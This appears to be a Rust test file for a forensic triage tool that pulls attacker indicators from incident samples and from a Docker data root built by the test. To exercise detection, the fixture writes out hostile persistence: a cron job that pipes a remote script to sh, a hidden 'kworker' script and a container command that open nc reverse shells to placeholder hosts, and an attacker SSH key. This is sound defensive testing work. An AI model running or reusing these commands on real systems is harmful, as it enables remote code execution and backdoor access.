//! Indicators from every source, attacker-side only: on both samples (the cron job's URL,
//! the implant's C2, the attacker's SSH key, the miner's pool and wallet, ip:port endpoints)
//! and on a Docker data root built here (a cron file, authorized_keys and a callback loop in a
//! container's upper dir; a second container whose command names the attacker's host).

use std::path::Path;

use serde_json::{json, Value};
use sha2::Digest;

use crate::util::{run, run_json, validate_against_schema, write_files};

fn iocs(b: &Value) -> Vec<&Value> {
    b["iocs"].as_array().unwrap().iter().collect()
}

/// The indicator of this type and value.
fn ioc<'a>(b: &'a Value, kind: &str, value: &str) -> &'a Value {
    iocs(b).into_iter().find(|i| i["type"] == kind && i["value"] == value).unwrap_or_else(|| {
        let all: Vec<String> = iocs(b).iter().map(|i| format!("{} {}", i["type"], i["value"])).collect();
        panic!("no {kind} {value} in {all:?}")
    })
}

fn evidence(i: &Value) -> Vec<String> {
    i["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            let mut s = l["artifact"].as_str().unwrap().to_string();
            for m in l["members"].as_array().into_iter().flatten() {
                s.push_str(" > ");
                s.push_str(m.as_str().unwrap());
            }
            s
        })
        .collect()
}

/// The fact whose rules include `rule`.
fn fact<'a>(b: &'a Value, rule: &str) -> &'a Value {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == rule))
        .unwrap_or_else(|| panic!("no fact of {rule}"))
}

fn fact_iocs(f: &Value) -> Vec<String> {
    f["iocs"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|i| {
                    format!(
                        "{}:{}:{}",
                        i["type"].as_str().unwrap(),
                        i["value"].as_str().unwrap(),
                        i["role"].as_str().unwrap()
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Nothing of the victim's, loopback or a third party is an indicator.
fn only_attacker_side(b: &Value, own: &[&str]) {
    for i in iocs(b) {
        let v = i["value"].as_str().unwrap();
        for o in own.iter().chain(&["127.0.0.1", "localhost", "github.com"]) {
            assert!(!v.contains(o), "{v} is not the attacker's ({o})");
        }
        assert!(i["role"].as_str().unwrap().chars().all(|c| c.is_ascii_lowercase() || c == '-'), "{i}");
    }
}

#[test]
fn dvwa_indicators_from_cron_dropper_processes_and_logs() {
    let (v, _) = run_json(&["scan", "samples/dvwa", "-q"]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    // The cron job's download URL, read from the file the attacker dropped.
    let m = ioc(b, "url", "http://203.0.113.66:8000/m.sh");
    assert_eq!(m["role"], "payload-server");
    assert!(evidence(m).contains(&"export.tar > /etc/cron.d/php-sess-clean".to_string()), "{m}");
    // Dated by the cron directory's mtime, not by the file's forged 2025 mtime.
    assert_eq!(m["first_seen"], "2026-11-27T14:33:40.000000000Z");
    let cron = fact(b, "file.persistence.cron");
    assert!(
        fact_iocs(cron).contains(&"url:http://203.0.113.66:8000/m.sh:payload-server".to_string()),
        "{cron}"
    );
    // ip:port endpoints: the reverse shell from the process capture, the payload server, the pool.
    let shell = ioc(b, "endpoint", "203.0.113.66:4444");
    assert_eq!(shell["role"], "callback");
    assert!(evidence(shell).iter().any(|e| e.starts_with("top.txt")), "{shell}");
    assert_eq!(ioc(b, "endpoint", "203.0.113.66:8000")["role"], "payload-server");
    assert_eq!(ioc(b, "endpoint", "198.51.100.23:1389")["role"], "callback");
    let pool = ioc(b, "endpoint", "xmr.pool-minexmr.example:4444");
    assert_eq!(pool["role"], "mining-pool");
    let wallet =
        "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
    assert_eq!(ioc(b, "wallet", wallet)["role"], "wallet");
    // The miner fact carries its pool and wallet (from its arguments and its files).
    let miner = fact_iocs(fact(b, "proc.miner"));
    assert!(miner.contains(&"endpoint:xmr.pool-minexmr.example:4444:mining-pool".to_string()), "{miner:?}");
    assert!(miner.contains(&format!("wallet:{wallet}:wallet")), "{miner:?}");
    // The attacker's address has every role it played.
    let a = ioc(b, "ip", "203.0.113.66");
    let roles: Vec<&str> = a["roles"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()).collect();
    for r in ["callback", "payload-server", "request-source"] {
        assert!(roles.contains(&r), "{roles:?}");
    }
    only_attacker_side(b, &["192.0.2.50", "172.17.0.", "www.google.com"]);
}

#[test]
fn log4shell_indicators_from_the_implant_and_the_authorized_keys() {
    let (v, _) = run_json(&["scan", "samples/log4shell", "-q"]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    // The implant's C2, from the printable strings of the ELF the attacker dropped.
    let c2 = ioc(b, "endpoint", "203.0.113.66:8443");
    assert_eq!(c2["role"], "callback");
    assert!(evidence(c2).contains(&"export.tar > /tmp/.x/agent".to_string()), "{c2}");
    // The attacker's key, as `ssh-keygen -l` prints it, with its comment.
    let key = ioc(b, "ssh-key", "SHA256:RBjn6dqGBV5JQPdMD3IFdawQImBJoHZApwkSDzAcZXE kali@kali");
    assert_eq!(key["role"], "ssh-key");
    assert!(evidence(key).contains(&"export.tar > /root/.ssh/authorized_keys".to_string()), "{key}");
    assert_eq!(key["first_seen"], "2026-11-27T14:29:15.000000000Z");
    // The reverse shell: decoded from the base64 in the process's arguments and the request.
    let shell = ioc(b, "endpoint", "203.0.113.66:4444");
    assert!(evidence(shell).iter().any(|e| e.starts_with("top.txt")), "{shell}");
    assert!(evidence(shell).iter().any(|e| e.starts_with("container.log")), "{shell}");
    assert_eq!(ioc(b, "endpoint", "203.0.113.66:1389")["role"], "callback");
    only_attacker_side(b, &["192.0.2.80", "172.17.0."]);
}

#[test]
fn iocs_csv_has_a_role_word_and_the_new_kinds() {
    let out = run(&["scan", "samples/log4shell", "-f", "iocs-csv", "-q"]).stdout;
    let mut r = csv::Reader::from_reader(out.as_slice());
    let head: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(head[..4], ["bundle", "type", "value", "role"]);
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    let kinds: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    for k in ["endpoint", "ssh-key", "sha256", "ip"] {
        assert!(kinds.contains(&k), "{kinds:?}");
    }
    let roles =
        ["callback", "payload-server", "mining-pool", "request-source", "ssh-key", "wallet", "dropped-file"];
    for row in &rows {
        assert!(roles.contains(&&row[3]), "role {:?} is no role word", &row[3]);
    }
    // JSONL: one ioc record per indicator, an endpoint with its port.
    let out = run(&["scan", "samples/log4shell", "-f", "jsonl", "-q"]).stdout;
    let recs: Vec<Value> = out
        .split(|c| *c == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).unwrap())
        .collect();
    let ep = recs
        .iter()
        .find(|r| r["ctriage"]["type"] == "endpoint" && r["ctriage"]["value"] == "203.0.113.66:8443")
        .expect("an endpoint ioc record");
    assert_eq!(ep["threat"]["indicator"]["ip"], "203.0.113.66");
    assert_eq!(ep["threat"]["indicator"]["port"], 8443);
    assert_eq!(ep["ctriage"]["role"], "callback");
}

fn sha(b: &[u8]) -> String {
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

const WEB: &str = "3333333333333333333333333333333333333333333333333333333333333333";
const HELPER: &str = "4444444444444444444444444444444444444444444444444444444444444444";
const CACHE: &str = "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc";
const RSA: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDQSBGOZulVp0uKwnsps/VRoXbGRxQ1j8NN6rTeS3XGzgLfYqXMDf7oMX2S+5pA6H8U/eMeRmvJzxYIeeXZY7nORu7mWY6TIZtlEN8ojXujlSaCGNnQwYMyhxYqsZ4s0FN7ST2hG50sqDZnEsO3nik1Z8SiYkJDKqLOhs/NegGTpDCQ6cVjr9mQp4BJg1q008kP4xKcvRgldp1MbMIdd2hp9rZOFTdFgMT2pasYWnPkg8P1jJcQhwvNWApgKSvI42khVT5wh6OQqWB+/MjgzbSB8at/pAWBY6BZEY18WKhXXdA9EYvEyDdoUvegYnvCBi2EtK7qevOOmybka7QmUEx7 root@attacker box";

/// An overlay2 data root: image `web:1`, container `web` whose upper dir holds a cron job,
/// an SSH key and a callback loop, and container `helper` whose command names the cron
/// job's server and another callback.
fn data_root(dir: &Path) {
    let diff = format!("sha256:{}", sha(b"layer"));
    let config = serde_json::to_vec(&json!({
        "architecture": "amd64", "os": "linux", "created": "2026-11-01T00:00:00Z",
        "config": {"Cmd": ["httpd"]},
        "history": [{"created": "2026-11-01T00:00:00Z", "created_by": "ADD rootfs /"}],
        "rootfs": {"type": "layers", "diff_ids": [diff]},
    }))
    .unwrap();
    let id = sha(&config);
    let d = "var/lib/docker";
    let conf = |cid: &str, name: &str, cmd: Value, ip: &str| {
        serde_json::to_vec(&json!({
            "ID": cid, "Name": format!("/{name}"), "Image": format!("sha256:{id}"),
            "Created": "2026-11-02T00:00:00Z", "Path": cmd[0], "Args": cmd.as_array().unwrap()[1..],
            "Config": {"Image": "web:1", "Cmd": cmd, "Env": ["PATH=/bin", "C2=203.0.113.200:5555"]},
            "State": {"Running": true, "StartedAt": "2026-11-02T00:00:01Z"},
            "Driver": "overlay2",
            "NetworkSettings": {"Networks": {"bridge": {"IPAddress": ip, "Gateway": "172.17.0.1"}}},
        }))
        .unwrap()
    };
    let helper_cmd = json!(["sh", "-c", "while :; do curl -s http://198.51.100.99:8080/s.sh | sh; nc 203.0.113.200 5555 -e sh; sleep 300; done"]);
    let mount = |cid: &str| format!("e{}", &cid[1..]);
    let (mw, mh) = (mount(WEB), mount(HELPER));
    let files: Vec<(String, Vec<u8>)> = vec![
        (format!("{d}/image/overlay2/imagedb/content/sha256/{id}"), config.clone()),
        (format!("{d}/image/overlay2/layerdb/sha256/{}/diff", &diff[7..]), diff.clone().into_bytes()),
        (format!("{d}/image/overlay2/layerdb/sha256/{}/cache-id", &diff[7..]), CACHE.into()),
        (format!("{d}/image/overlay2/layerdb/mounts/{WEB}/mount-id"), mw.clone().into_bytes()),
        (format!("{d}/image/overlay2/layerdb/mounts/{HELPER}/mount-id"), mh.clone().into_bytes()),
        (format!("{d}/overlay2/{CACHE}/diff/bin/sh"), b"\x7fELF busybox".to_vec()),
        (format!("{d}/overlay2/{CACHE}/diff/etc/cron.d/.placeholder"), vec![]),
        (format!("{d}/overlay2/{CACHE}/diff/var/www/index.html"), b"<html>shop</html>".to_vec()),
        (
            format!("{d}/overlay2/{mw}/diff/etc/cron.d/backup"),
            b"*/10 * * * * root curl -fsSL http://198.51.100.99:8080/s.sh | sh\n0 * * * * root curl -s http://127.0.0.1:8080/health; wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz\n".to_vec(),
        ),
        (format!("{d}/overlay2/{mw}/diff/root/.ssh/authorized_keys"), format!("{RSA}\n").into_bytes()),
        (
            format!("{d}/overlay2/{mw}/diff/tmp/.cache/kworker"),
            b"#!/bin/sh\nwhile :; do nc 198.51.100.99 4444 -e /bin/sh; sleep 60; done\n".to_vec(),
        ),
        (format!("{d}/overlay2/{mh}/diff/tmp/.keep"), vec![]),
        (format!("{d}/containers/{WEB}/config.v2.json"), conf(WEB, "web", json!(["httpd", "-f"]), "172.17.0.5")),
        (format!("{d}/containers/{WEB}/hostconfig.json"), b"{}".to_vec()),
        (format!("{d}/containers/{HELPER}/config.v2.json"), conf(HELPER, "helper", helper_cmd, "172.17.0.6")),
        (format!("{d}/containers/{HELPER}/hostconfig.json"), b"{}".to_vec()),
        (
            format!("{d}/image/overlay2/repositories.json"),
            serde_json::to_vec(&json!({"Repositories": {"web": {"web:1": format!("sha256:{id}")}}})).unwrap(),
        ),
    ];
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    write_files(dir, &refs);
    use std::os::unix::fs::PermissionsExt;
    let kworker = dir.join(format!("{d}/overlay2/{mw}/diff/tmp/.cache/kworker"));
    std::fs::set_permissions(kworker, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn data_root_indicators_from_files_and_a_containers_command() {
    let dir = tempfile::tempdir().unwrap();
    data_root(dir.path());
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap(), "-q"]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    // The cron job's server, from the file in web's upper dir.
    let url = ioc(b, "url", "http://198.51.100.99:8080/s.sh");
    assert_eq!(url["role"], "payload-server");
    assert!(evidence(url).iter().any(|e| e.ends_with(" > /etc/cron.d/backup")), "{url}");
    assert!(iocs(b).iter().any(|i| i["type"] == "ip" && i["value"] == "198.51.100.99"), "{:?}", b["iocs"]);
    // The callback loop in a hidden directory.
    let cb = ioc(b, "endpoint", "198.51.100.99:4444");
    assert_eq!(cb["role"], "callback");
    assert!(evidence(cb).iter().any(|e| e.ends_with(" > /tmp/.cache/kworker")), "{cb}");
    // The key the attacker added, with its comment.
    let key = ioc(b, "ssh-key", "SHA256:GtjAavItP9Esd2e25d7lKWs3oXe/LwbgDsmNX1dhGCc root@attacker box");
    assert!(evidence(key).iter().any(|e| e.ends_with(" > /root/.ssh/authorized_keys")), "{key}");
    // The file change itself carries what its content names.
    let change =
        b["file_changes"].as_array().unwrap().iter().find(|c| c["path"] == "/etc/cron.d/backup").unwrap();
    let found: Vec<&str> =
        change["iocs"].as_array().unwrap().iter().map(|i| i["value"].as_str().unwrap()).collect();
    assert!(found.contains(&"http://198.51.100.99:8080/s.sh"), "{found:?}");
    // helper's command names the cron job's server: what else it calls is the attacker's too,
    // proven by its configuration.
    let c2 = ioc(b, "endpoint", "203.0.113.200:5555");
    assert_eq!(c2["role"], "callback");
    assert!(evidence(c2).iter().any(|e| e.contains(HELPER) && e.ends_with("config.v2.json")), "{c2}");
    // Loopback, the victim's own addresses and GitHub are never the attacker's.
    only_attacker_side(b, &["172.17.0.5", "172.17.0.1", "xmrig.tar.gz"]);
}
